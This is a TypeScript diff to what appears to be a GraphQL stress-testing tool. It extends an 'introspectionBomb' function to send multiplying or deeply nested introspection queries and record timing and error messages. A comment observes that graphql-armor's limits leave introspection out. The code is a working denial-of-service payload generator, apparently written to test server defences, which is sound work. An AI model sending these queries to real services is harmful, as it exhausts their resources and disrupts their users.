@@ -258,10 +258,14 @@ export async function uniqueDocumentFlood(target: Target, token: string, documen
   return tally(answers, started);
 }
 
-/** Introspection made to multiply: fields → type → fields → type … */
-export async function introspectionBomb(target: Target, levels = 6) {
+/**
+ * Introspection made to multiply (fields → type → fields → type …) or to nest (an ofType chain far deeper than any
+ * type needs); graphql-armor's limits leave introspection out.
+ */
+export async function introspectionBomb(target: Target, kind: 'lists' | 'ofType', levels = kind === 'lists' ? 6 : 60) {
   let inner = 'name';
-  for (let i = 0; i < levels; i++) inner = `fields { type { ${inner} } }`;
+  for (let i = 0; i < levels; i++) inner = kind === 'lists' ? `fields { type { ${inner} } }` : `ofType { ${inner} }`;
   const started = performance.now();
-  return tally([await post(target, { query: `{ __schema { types { ${inner} } } }` })], started);
+  const answer = await post(target, { query: `{ __schema { types { ${inner} } } }` });
+  return { ...tally([answer], started), message: answer.errors?.[0]?.message ?? null };
 }
